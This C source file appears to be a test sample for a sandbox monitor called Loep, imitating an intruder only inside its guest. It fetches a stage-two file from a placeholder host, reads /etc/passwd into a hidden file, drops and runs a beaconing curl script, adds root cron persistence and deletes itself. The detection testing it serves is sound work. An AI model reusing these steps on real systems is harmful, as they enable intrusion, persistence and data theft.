/* SPDX-License-Identifier: Apache-2.0 */
/*
 * intruder.c - a harmless sample that behaves like an intruder.
 *
 * For the demonstration and the end-to-end tests: it starts children, resolves
 * names, fetches something over HTTP, drops a file, writes persistence and
 * deletes itself.  What it writes does nothing, whom it calls does not exist
 * (RFC 2606 names); it acts only where the marker file of Loep's guest is.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* The agent's device: only a guest of Loep has it. */
#define MARKER "/dev/virtio-ports/org.loep.agent"

static void
write_file(const char *path, const char *text, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);

	if (fd == -1)
		return;
	(void)!write(fd, text, strlen(text));
	(void)close(fd);
}

static void
run(const char *command)
{
	pid_t pid = fork();

	if (pid == 0) {
		(void)execl("/bin/sh", "sh", "-c", command, (char *)NULL);
		_exit(127);
	}
	if (pid > 0)
		(void)waitpid(pid, NULL, 0);
}

static void
fetch(const char *host, const char *path)
{
	struct addrinfo hints = {
	    .ai_family = AF_INET,
	    .ai_socktype = SOCK_STREAM,
	};
	struct addrinfo *found = NULL;
	char request[512];
	char answer[4096];
	struct timeval limit = {.tv_sec = 5};
	int fd, len;

	if (getaddrinfo(host, "80", &hints, &found) != 0) {
		printf("no address for %s\n", host);
		return;
	}
	fd = socket(AF_INET, SOCK_STREAM, 0);
	(void)setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof(limit));
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	if (connect(fd, found->ai_addr, found->ai_addrlen) == 0) {
		len = snprintf(request, sizeof(request),
		    "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: intruder/1\r\n"
		    "Connection: close\r\n\r\n",
		    path, host);
		(void)!write(fd, request, (size_t)len);
		len = (int)read(fd, answer, sizeof(answer));
		printf("%s answered %d bytes\n", host, len);
	} else {
		printf("no connection to %s: %s\n", host, strerror(errno));
	}
	(void)close(fd);
	freeaddrinfo(found);
}

int
main(int argc, char **argv)
{
	struct stat st;

	(void)argc;
	if (stat(MARKER, &st) == -1) {
		fprintf(stderr, "This sample acts in a guest of Loep only.\n");
		return 1;
	}
	printf("intruder: starting\n");
	(void)fflush(stdout);
	fetch("updates.example.net", "/stage2.bin?id=42");
	run("uname -a > /tmp/.survey; id >> /tmp/.survey; "
	    "cat /etc/passwd >> /tmp/.survey");
	run("getent hosts exfil.example.org");
	/* A dropped script that runs from a scratch folder, then goes. */
	write_file("/tmp/.update.sh",
	    "#!/bin/sh\n# dropped by the sample\n"
	    "curl -s -m 5 http://cdn.example.com/beacon -o /dev/null\n"
	    "echo done\n",
	    0755);
	run("/tmp/.update.sh");
	write_file("/etc/cron.d/loep-sample",
	    "* * * * * root /tmp/.update.sh\n", 0644);
	run("echo 'ssh-ed25519 AAAAC3example sample' >> "
	    "/root/.ssh_keys_backup; rm -f /root/.ssh_keys_backup");
	(void)unlink(argv[0]);
	printf("intruder: done\n");
	return 0;
}
